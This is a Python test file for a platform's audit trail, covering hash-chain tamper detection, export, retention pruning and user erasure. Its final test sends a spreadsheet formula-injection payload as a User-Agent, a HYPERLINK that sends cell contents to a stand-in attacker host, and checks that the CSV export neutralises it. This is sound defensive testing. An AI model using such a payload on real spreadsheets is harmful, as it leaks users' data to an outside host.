"""The platform's audit trail: lines from several services, one hash chain per tenant,
tamper detection, export and retention."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
from sqlalchemy import update

from orchestrion.kernel.db.engine import Database
from orchestrion.kernel.ids import utcnow
from orchestrion.services.auth.audit.consumer import prune_once
from orchestrion.services.auth.models import AuditEvent
from orchestrion.settings import Settings
from tests.conftest import user_headers
from tests.fixtures.processes import run_command

AUDIT = "/api/v1/audit"
DEADLINE = 60.0
WORKFLOW = {"name": "audited", "steps": [{"id": "a", "type": "transform", "with": {"x": 1}}]}


async def lines(
    client: httpx.AsyncClient, headers: dict[str, str], **params: Any
) -> list[dict[str, Any]]:
    answer = await client.get(AUDIT, params={"limit": 100, **params}, headers=headers)
    assert answer.status_code == 200, answer.text
    found: list[dict[str, Any]] = answer.json()["data"]
    return found


async def until_lines(
    client: httpx.AsyncClient, headers: dict[str, str], count: int, **params: Any
) -> list[dict[str, Any]]:
    """The lines matching ``params`` once there are ``count`` of them (they cross the bus)."""
    async with asyncio.timeout(DEADLINE):
        while True:
            found = await lines(client, headers, **params)
            if len(found) >= count:
                return found
            await asyncio.sleep(0.05)


async def test_a_users_actions_across_services_form_one_verifiable_trail(
    client: httpx.AsyncClient, admin_headers: dict[str, str], settings: Settings, tmp_path: Path
) -> None:
    editor = await user_headers(client, admin_headers, email="ed@example.com", roles=["editor"])
    me = (await client.get("/api/v1/auth/me", headers=editor)).json()
    agent = {**editor, "User-Agent": "audit-test/1.0", "X-Request-ID": "req-audit-1"}
    created = await client.post("/api/v1/workflows", json=WORKFLOW, headers=agent)
    assert created.status_code == 201, created.text
    workflow_id = created.json()["id"]
    started = await client.post(f"/api/v1/workflows/{workflow_id}/executions", headers=editor)
    assert started.status_code in (200, 202), started.text
    template = await client.post(
        "/api/v1/templates",
        json={"name": "audited", "definition": WORKFLOW},
        headers=editor,
    )
    assert template.status_code == 201, template.text

    trail = await until_lines(client, admin_headers, 4, actor=me["id"])
    by_action = {line["action"]: line for line in trail}
    assert {"login.succeeded", "workflow.created", "execution.started", "template.created"} <= set(
        by_action
    )
    made = by_action["workflow.created"]
    assert made["service"] == "workflows"
    assert made["resource_type"] == "workflow"
    assert made["resource_id"] == workflow_id
    assert made["user_agent"] == "audit-test/1.0"
    assert made["request_id"] == "req-audit-1"
    assert made["ip"]
    assert made["tenant_id"] == me["tenant_id"]
    assert made["seq"]
    assert len(made["hash"]) == 64
    assert by_action["template.created"]["service"] == "templates"

    one = await lines(client, admin_headers, resource=f"workflow/{workflow_id}")
    assert [line["action"] for line in one] == ["workflow.created"]
    assert (
        await client.get(AUDIT, params={"colour": "red"}, headers=admin_headers)
    ).status_code == 400
    # Editors do not read the trail.
    assert (await client.get(AUDIT, headers=editor)).status_code == 403
    assert (await client.get(f"{AUDIT}/verify", headers=editor)).status_code == 403

    verdict = await client.get(f"{AUDIT}/verify", headers=admin_headers)
    assert verdict.status_code == 200, verdict.text
    assert verdict.json()["ok"] is True, verdict.json()
    ours = next(c for c in verdict.json()["chains"] if c["tenant_id"] == me["tenant_id"])
    assert ours["checked"] >= 4

    # Someone edits a line in the database: verification names it.
    database = Database(settings.database_url)
    try:
        async with database.session() as session:
            await session.execute(
                update(AuditEvent).where(AuditEvent.id == made["id"]).values(action="workflow.read")
            )
    finally:
        await database.dispose()
    broken = (await client.get(f"{AUDIT}/verify", headers=admin_headers)).json()
    assert broken["ok"] is False
    ours = next(c for c in broken["chains"] if c["tenant_id"] == me["tenant_id"])
    assert ours["first_broken"]["id"] == made["id"]
    assert ours["first_broken"]["seq"] == made["seq"]
    # The command line says the same, and fails.
    command = await asyncio.to_thread(
        run_command,
        tmp_path,
        "audit",
        "verify",
        ORCHESTRION_DATABASE__URL=settings.database_url,
        ORCHESTRION_SECRET_KEY=settings.secret_key.get_secret_value(),
    )
    assert command.returncode == 1, command.stdout + command.stderr
    assert made["id"] in command.stderr


async def test_a_changed_actor_or_a_removed_line_breaks_the_chain(
    client: httpx.AsyncClient, admin_headers: dict[str, str], settings: Settings
) -> None:
    for _ in range(3):
        created = await client.post("/api/v1/workflows", json=WORKFLOW, headers=admin_headers)
        assert created.status_code == 201, created.text
    trail = await until_lines(client, admin_headers, 3, action="workflow.created")
    first, second = sorted(trail, key=lambda line: line["seq"])[:2]
    database = Database(settings.database_url)
    try:
        async with database.session() as session:
            await session.execute(
                update(AuditEvent).where(AuditEvent.id == first["id"]).values(actor_id="someone")
            )
        verdict = (await client.get(f"{AUDIT}/verify", headers=admin_headers)).json()
        assert verdict["ok"] is False
        assert any(
            c["first_broken"] and c["first_broken"]["id"] == first["id"] for c in verdict["chains"]
        )
        async with database.session() as session:
            await session.execute(
                update(AuditEvent)
                .where(AuditEvent.id == first["id"])
                .values(actor_id=first["actor_id"])
            )
            await session.execute(
                AuditEvent.__table__.delete().where(AuditEvent.id == second["id"])
            )
        verdict = (await client.get(f"{AUDIT}/verify", headers=admin_headers)).json()
        assert verdict["ok"] is False
        broken = next(c["first_broken"] for c in verdict["chains"] if c["first_broken"])
        assert broken["seq"] == second["seq"]
        assert "missing" in broken["reason"]
    finally:
        await database.dispose()


async def test_export_streams_json_and_csv(
    client: httpx.AsyncClient, admin_headers: dict[str, str]
) -> None:
    created = await client.post("/api/v1/workflows", json=WORKFLOW, headers=admin_headers)
    assert created.status_code == 201, created.text
    await until_lines(client, admin_headers, 1, action="workflow.created")
    as_json = await client.get(f"{AUDIT}/export", headers=admin_headers)
    assert as_json.status_code == 200, as_json.text
    exported = json.loads(as_json.text)
    assert {"login.succeeded", "workflow.created"} <= {line["action"] for line in exported}
    as_csv = await client.get(
        f"{AUDIT}/export",
        params={"format": "csv", "action": "workflow.created"},
        headers=admin_headers,
    )
    assert as_csv.status_code == 200
    assert as_csv.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert [row["action"] for row in rows] == ["workflow.created"]
    assert json.loads(rows[0]["data"]) == {"name": "audited"}
    bad = await client.get(f"{AUDIT}/export", params={"format": "xml"}, headers=admin_headers)
    assert bad.status_code == 422
    assert bad.headers["content-type"].startswith("application/problem+json")
    unknown = await client.get(f"{AUDIT}/export", params={"colour": "red"}, headers=admin_headers)
    assert unknown.status_code == 400


async def test_retention_prunes_old_lines_and_the_rest_still_verifies(
    client: httpx.AsyncClient, admin_headers: dict[str, str], settings: Settings
) -> None:
    for _ in range(3):
        assert (
            await client.post("/api/v1/workflows", json=WORKFLOW, headers=admin_headers)
        ).status_code == 201
    trail = sorted(
        await until_lines(client, admin_headers, 3, action="workflow.created"),
        key=lambda line: line["seq"],
    )
    database = Database(settings.database_url)
    try:
        # Everything up to the second workflow's line is a year old.
        async with database.session() as session:
            await session.execute(
                update(AuditEvent)
                .where(AuditEvent.chain == trail[1]["tenant_id"], AuditEvent.seq <= trail[1]["seq"])
                .values(created_at=utcnow() - timedelta(days=365))
            )
        # (Their time is in their hash: they would fail verification, were they kept.)
        pruned = await prune_once(database, retention_days=30)
        assert pruned >= 2
    finally:
        await database.dispose()
    kept = await lines(client, admin_headers, action="workflow.created")
    assert [line["id"] for line in kept] == [trail[2]["id"]]
    verdict = (await client.get(f"{AUDIT}/verify", headers=admin_headers)).json()
    assert verdict["ok"] is True, verdict
    ours = next(c for c in verdict["chains"] if c["tenant_id"] == trail[2]["tenant_id"])
    assert ours["anchor_seq"] == trail[1]["seq"]


async def test_export_and_erase_a_user(
    client: httpx.AsyncClient, admin_headers: dict[str, str]
) -> None:
    person = await user_headers(client, admin_headers, email="pat@example.com", roles=["editor"])
    me = (await client.get("/api/v1/auth/me", headers=person)).json()
    key = await client.post(
        "/api/v1/auth/api-keys", json={"name": "ci", "scopes": ["workflows:read"]}, headers=person
    )
    assert key.status_code == 201, key.text
    created = await client.post("/api/v1/workflows", json=WORKFLOW, headers=person)
    assert created.status_code == 201, created.text
    await until_lines(client, admin_headers, 1, actor=me["id"], action="workflow.created")

    exported = await client.get(f"/api/v1/auth/users/{me['id']}/export", headers=admin_headers)
    assert exported.status_code == 200, exported.text
    body = exported.json()
    assert body["user"]["email"] == "pat@example.com"
    own = body["services"]["auth"]
    assert len(own["sessions"]) == 1
    assert [k["name"] for k in own["api_keys"]] == ["ci"]
    assert "key" not in own["api_keys"][0]
    assert {"login.succeeded", "api_key.created", "workflow.created"} <= {
        line["action"] for line in own["audit"]
    }
    assert (
        await client.get(f"/api/v1/auth/users/{me['id']}/export", headers=person)
    ).status_code == 403
    assert (
        await client.get("/api/v1/auth/users/nobody/export", headers=admin_headers)
    ).status_code == 404

    erased = await client.delete(
        f"/api/v1/auth/users/{me['id']}", params={"erase": "true"}, headers=admin_headers
    )
    assert erased.status_code == 204, erased.text
    refused = await client.post(
        "/api/v1/auth/login", json={"email": "pat@example.com", "password": "user-password-1"}
    )
    assert refused.status_code == 401
    assert await lines(client, admin_headers, actor=me["id"]) == []
    everything = await lines(client, admin_headers)
    anonymised = [line for line in everything if (line["actor_id"] or "").startswith("erased:")]
    assert {"login.succeeded", "api_key.created"} <= {line["action"] for line in anonymised}
    assert len({line["actor_id"] for line in anonymised}) == 1
    assert all(line["erased"] for line in anonymised)
    assert all(line["ip"] is None and line["user_agent"] is None for line in anonymised)
    # The admin's line about creating them keeps its actor, loses the person's data.
    about = [line for line in everything if line["action"] == "user.created"]
    assert about
    assert about[0]["erased"]
    assert about[0]["data"] == {}
    # (The refused login after the erasure is a new line, with the address typed in.)
    leaks = [
        line
        for line in everything
        if "pat@example.com" in json.dumps(line) and line["action"] != "login.failed"
    ]
    assert leaks == [], leaks
    # Anonymised lines keep the chain verifiable.
    verdict = (await client.get(f"{AUDIT}/verify", headers=admin_headers)).json()
    assert verdict["ok"] is True, verdict


async def test_csv_export_quotes_cells_a_spreadsheet_would_run(
    client: httpx.AsyncClient, admin_headers: dict[str, str]
) -> None:
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    refused = await client.post(
        "/api/v1/auth/login",
        json={"email": "nobody@example.com", "password": "wrong-password"},
        headers={"User-Agent": attack},
    )
    assert refused.status_code == 401
    await until_lines(client, admin_headers, 1, action="login.failed")
    as_csv = await client.get(
        f"{AUDIT}/export", params={"format": "csv", "action": "login.failed"}, headers=admin_headers
    )
    assert as_csv.status_code == 200, as_csv.text
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert [row["user_agent"] for row in rows] == ["'" + attack]
    # The JSON export keeps the value as it is: only spreadsheets need the quote.
    as_json = await client.get(
        f"{AUDIT}/export", params={"action": "login.failed"}, headers=admin_headers
    )
    assert [line["user_agent"] for line in json.loads(as_json.text)] == [attack]
